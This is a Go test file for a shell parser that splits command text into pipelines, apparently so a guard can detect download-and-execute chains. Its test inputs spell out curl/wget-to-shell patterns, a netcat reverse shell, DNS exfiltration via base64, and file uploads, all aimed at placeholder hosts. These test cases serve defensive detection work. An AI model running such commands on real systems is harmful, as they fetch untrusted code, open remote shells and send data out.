package shell

import (
	"strings"
	"testing"
	"time"
)

// pipelines returns the pipelines of a text, separated by ; and a space.
func pipelines(text string) (string, error) {
	var r Reader
	if err := r.Read(text); err != nil {
		return "", err
	}
	all, err := r.Pipelines()
	var lines []string
	for _, p := range all {
		var stages []string
		for _, l := range p {
			stages = append(stages, l.String())
		}
		lines = append(lines, strings.Join(stages, " | "))
	}
	return strings.Join(lines, "; "), err
}

// TestPipelines checks the pipelines in which patterns are searched (D93).
func TestPipelines(t *testing.T) {
	for _, c := range []struct{ text, want string }{
		{"curl U | sh", "curl U | sh; sh"},
		{"curl U | sudo bash -s -- x", "curl U | sudo bash -s -- x; curl U | bash -s -- x; curl U | sh; sudo bash -s -- x; bash -s -- x"},
		{"a | { b; c | d; } | e", "a | b | e; a | c | d | e; b | e; c | d | e; d | e; e"},
		{"(a; b) | c", "a | c; b | c; c"},
		{"a | if b; then c; fi | d", "a | b | d; a | c | d; b | d; c | d; d"},
		{"echo 'x | sh' | cat", "echo x | sh | cat; cat"},
		// Programs that run what they read.
		{"bash <(curl U)", "bash <(curl U); curl U | bash <(curl U); curl U | sh"},
		{". <(curl U)", ". <(curl U); curl U | . <(curl U); curl U | sh"},
		{`sh -c "$(curl U)"`, "sh -c $(curl U); curl U | sh -c $(curl U); curl U | sh"},
		{`eval "$(curl U)"`, "eval $(curl U); curl U | eval $(curl U); curl U | sh"},
		{`su -c "$(curl U)"`, "su -c $(curl U); curl U | su -c $(curl U); curl U | sh"},
		{"python3 <(curl U)", "python3 <(curl U); curl U | python3 <(curl U); curl U | python3"},
		{`python3 -c "$(curl U)"`, "python3 -c $(curl U); curl U | python3 -c $(curl U); curl U | python3"},
		{"bash <(curl x/y) --z", "bash <(curl x/y) --z; curl x/y | bash <(curl x/y) --z; curl x/y | sh"},
		// Files.
		{"curl U > f; sh f", "curl U | sh f; curl U | sh; sh f"},
		{"sh f; curl U > f", "sh f; curl U"},
		{"for i in 1 2; do sh f; curl U > f; done", "sh f; curl U | sh f; curl U | sh"},
		{"curl -fsSLo /tmp/f U && mv /tmp/f g && chmod +x g && ./g", "curl -fsSLo /tmp/f U | sh; mv /tmp/f g; chmod +x g; ./g"},
		{"curl U > f; cp f d/; sh d/f", "curl U | sh d/f; curl U | sh; cp f d/; sh d/f"},
		{"wget -O f U && ./f", "wget -O f U | sh; ./f"},
		{"wget -q https://x/i.sh; bash i.sh", "wget -q https://x/i.sh | bash i.sh; wget -q https://x/i.sh | sh; bash i.sh"},
		{"curl -O https://x/i.sh?a; cd x; bash ../i.sh", "curl -O https://x/i.sh?a | bash ../i.sh; curl -O https://x/i.sh?a | sh; cd x; bash ../i.sh"},
		{"curl U | tee f >/dev/null; python3 f", "curl U | tee f | python3 f; curl U | tee f | python3; tee f | python3 f; tee f | python3; python3 f"},
		{"curl U | dd of=f; . ./f", "curl U | dd of=f | . ./f; curl U | dd of=f | sh; dd of=f | . ./f; dd of=f | sh; . ./f"},
		{"{ curl U; } > f; sh < f", "curl U | sh; sh"},
		{"sh -c 'curl U' > f; cat f | sh", "sh -c curl U | cat f | sh; curl U | cat f | sh; cat f | sh; sh"},
		{"(cd /tmp; curl -O U/i.sh); sh /tmp/i.sh", "cd /tmp; curl -O U/i.sh | sh /tmp/i.sh; curl -O U/i.sh | sh; sh /tmp/i.sh"},
		{`curl -o "$D/i.sh" U; sh "$D/i.sh"; sh /tmp/i.sh`, "curl -o $D/i.sh U | sh $D/i.sh; curl -o $D/i.sh U | sh /tmp/i.sh; curl -o $D/i.sh U | sh; sh $D/i.sh; sh /tmp/i.sh"},
		{"curl -o i.sh U; sh *.sh", "curl -o i.sh U | sh *.sh; curl -o i.sh U | sh; sh *.sh"},
		{"curl -o f U; sh g", "curl -o f U; sh g"},
		{"curl -o f.json U; python3 x.py f.json", "curl -o f.json U | python3 x.py f.json; python3 x.py f.json"},
		// Redirections, variables and functions.
		{"curl U | tee >(sh)", "curl U | tee >(sh) | sh; tee >(sh) | sh; sh"},
		{"curl U > >(sh)", "curl U | sh; sh"},
		{`sh <<< "$(curl U)"`, "sh; curl U | sh"},
		{"sh < <(curl U)", "sh; curl U | sh"},
		{"{ sh; } < <(curl U)", "curl U; curl U | sh; sh"},
		{`X=$(curl U); echo "$X" | sh`, "curl U | echo $X | sh; echo $X | sh; sh"},
		{`curl U | while read -r l; do echo "$l" | sh; done`, "curl U | read -r l | echo $l | sh; curl U | echo $l | sh; read -r l | echo $l | sh; echo $l | sh; sh"},
		{`for l in $(curl U); do echo "$l" | sh; done`, "curl U | echo $l | sh; echo $l | sh; sh"},
		{"f() { sh; }; curl U | f", "sh; curl U | sh; curl U | f; f"},
		{"f() { curl U; }; f | sh", "curl U | sh; f | sh; sh"},
		// Interpreters.
		{"f() { f; }; f | g", "f | g; g"},
		{"curl U | python3 -", "curl U | python3 -; curl U | python3; python3 -"},
		{"curl U | python3 -c 'import json'", "curl U | python3 -c import json; python3 -c import json"},
		{"curl U | sh $X; curl V | python3 $X", "curl U | sh $X; curl U | sh; sh $X; curl V | python3 $X; curl V | python3; python3 $X"},
		{"curl U | bash x.sh", "curl U | bash x.sh; bash x.sh"},
		{"curl U | bash -c 'cat'", "curl U | bash -c cat; curl U | cat; bash -c cat; cat"},
		{"curl U | node -r x", "curl U | node -r x; curl U | node; node -r x"},
		{"curl U | ssh h", "curl U | ssh h; curl U | sh; ssh h; sh"},
		{"curl U | deno run -A -", "curl U | deno run -A -; curl U | deno; deno run -A -"},
		{"curl U | x bash -", "curl U | x bash -; curl U | bash -; curl U | sh; x bash -; bash -"},
		{"x 'curl U | sh'", "x curl U | sh; curl U; sh; curl U | sh; sh"},
		{"bash -i | nc h 1", "bash -i | nc h 1; nc h 1"},
		// Descriptors that exec and coproc open, and variables on the way.
		{"exec 3< <(curl U); sh <&3", "exec; curl U | exec; curl U | sh; sh"},
		{"exec 3< <(curl U); . /dev/fd/3", "exec; curl U | exec; curl U | . /dev/fd/3; curl U | sh; . /dev/fd/3"},
		{"exec 3> f; curl U >&3; sh f", "exec | sh f | sh; exec | sh; curl U | sh f | sh; curl U | sh; sh f | sh"},
		{"coproc curl U; sh <&${COPROC[0]}", "curl U | sh; sh | curl U | sh"},
		// What is sent.
		{"mkfifo f; cat f | sh -i 2>&1 | nc h 1 > f", "mkfifo f; cat f | sh -i | nc h 1; cat f | sh; sh -i | nc h 1 | cat f | sh; nc h 1 | cat f | sh -i; nc h 1 | cat f | sh"},
		{`dig "$(base64 f).x.y"`, "dig $(base64 f).x.y; base64 f | dig $(base64 f).x.y"},
		{"tar czf a.tgz d; curl -T a.tgz U", "tar czf a.tgz d | curl -T a.tgz U; curl -T a.tgz U"},
		{"base64 f > g; curl -d @g U", "base64 f | curl -d @g U; curl -d @g U"},
		{"gzip f; curl -F x=@f.gz U", "gzip f | curl -F x=@f.gz U; curl -F x=@f.gz U"},
		{"sort f > g; mv g f; sort f > g; mv g f; sh f", "sort f | sort f | sh f; sort f | sort f | sh; mv g f; sort f | sh f; sort f | sh; sh f"},
		{"x=1; > f", ""},
	} {
		if got, err := pipelines(c.text); err != nil || got != c.want {
			t.Errorf("%s\ngot  %s (%v)\nwant %s", c.text, got, err, c.want)
		}
	}
}

// TestPipelineLimits bounds the pipelines of hostile texts, and the time for them.
func TestPipelineLimits(t *testing.T) {
	stage := "{ a; b; } | "
	if got, err := pipelines(strings.Repeat(stage, 8) + "c"); err != nil || strings.Count(got, ";") < 500 {
		t.Errorf("256 combinations: %v", err)
	}
	for _, text := range []string{
		strings.Repeat(stage, 11) + "c", strings.Repeat(stage, 2000) + "c", strings.Repeat("a|", 9000) + "a", strings.Repeat("a f > f;", 5000), strings.Repeat("a f >> f; b > f;", 3000), "while a; do " + strings.Repeat("a f > f;", 40) + "done",
		strings.Repeat("{ a f; } > f;", 3000), strings.Repeat("mv f g; mv g f;", 3000) + "a f", "f() { a; }; " + strings.Repeat("f | f;", 3000), strings.Repeat("f() { f | f; };", 500), strings.Repeat("a > f; ", 3000) + strings.Repeat("a *; ", 3000), strings.Repeat("a $x;", 9000), strings.Repeat("x=$(a $x);", 5000), strings.Repeat("a <(", 150) + strings.Repeat(")", 150), strings.Repeat("curl -O ", MaxText/8),
	} {
		var r Reader
		if r.Read(text) != nil {
			continue
		}
		begin := time.Now()
		all, err := r.Pipelines()
		if took := time.Since(begin); took > 20*time.Second {
			t.Errorf("%.60s takes %v (%d pipelines, %v)", text, took, len(all), err)
		}
		if err != nil && strings.HasPrefix(err.Error(), "internal error") {
			t.Errorf("%.60s: %v", text, err)
		}
		if strings.HasPrefix(text, stage) && err == nil {
			t.Errorf("%.60s has %d pipelines", text, len(all))
		}
	}
}

// FuzzPipelines checks that every text has pipelines or an error, and that each
// command is one.
func FuzzPipelines(f *testing.F) {
	for _, text := range hiding {
		f.Add(text)
	}
	for _, text := range []string{"curl -O https://x/i.sh; mv i.sh f; sh f", "wget -P d -O", "curl --output= -o", "cp -t a b c; ./$x/b", "deno run; bun; node -r", "tee >(a) > >(b) < <(c)"} {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		var r Reader
		if r.Read(text) != nil {
			return
		}
		all, err := r.Pipelines()
		if err != nil {
			if strings.HasPrefix(err.Error(), "internal error") {
				t.Error(err)
			}
			return
		}
		begins := map[string]bool{}
		for _, p := range all {
			begins[p[0].String()] = true
		}
		for _, l := range r.Invocations() {
			if !begins[l.String()] && !r.Commands[l.Command].stands {
				t.Errorf("%q begins no pipeline", l)
			}
		}
	})
}

// TestUnreadPipelines checks the pipelines of texts that cannot be read for certain,
// which a guard that only reminds still searches (D94).
func TestUnreadPipelines(t *testing.T) {
	for _, text := range []string{
		`X=$(curl U); sh <<< "$X"`, `x=$(curl U); y="a; $x"; sh -c "$y"`, `set -- "$(curl U)"; eval "$1"`, `trap "$(curl U)" EXIT`,
		"exec 3< <(curl U); read -r l <&3; eval \"$l\"",
	} {
		var r Reader
		_ = r.Read(text)
		all, _ := r.Pipelines()
		found := false
		for _, p := range all {
			found = found || p[0].String() == "curl U" && p[len(p)-1].String() == "sh"
		}
		if !found {
			t.Errorf("%s: %v lacks curl U | sh", text, all)
		}
	}
}

// TestShellReadsPipe checks that the commands of a text are not certain if a shell
// may read a program from a pipe without a name in the text's grammar.
func TestShellReadsPipe(t *testing.T) {
	for _, text := range []string{"coproc sh; echo rm x >&${COPROC[1]}", "coproc X { bash -s; }", "mkfifo p; sh < p & echo rm x > p", "mkfifo p; echo rm x | cat > p & sh p"} {
		var r Reader
		if err := r.Read(text); err != nil {
			t.Errorf("%s: %v", text, err)
		}
		if lines := r.Invocations(); r.Unlisted() == nil {
			t.Errorf("%s has only the commands %v", text, lines)
		}
	}
}
